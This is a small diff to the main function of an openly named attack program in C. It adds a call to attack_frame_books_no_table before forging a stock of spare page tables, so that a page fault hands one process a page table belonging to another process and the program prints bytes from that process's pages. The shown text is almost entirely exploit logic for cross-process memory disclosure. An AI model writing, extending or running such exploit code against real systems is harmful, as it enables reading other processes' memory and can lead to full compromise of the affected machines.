@@ -22,6 +22,7 @@ int main(void)
 	attack_say("frame 0x%lx is a page table of the first process's; the stock at 0x%lx has it "
 		   "for an empty one",
 		   table, leak.spare_tables.slots);
+	attack_frame_books_no_table(&books);
 	before = attack_stock_forge(&leak.spare_tables, table);
 	/* a page fault, which takes that table, and finds the page in it */
 	attack_say("first bytes of a page there: 0x%lx",
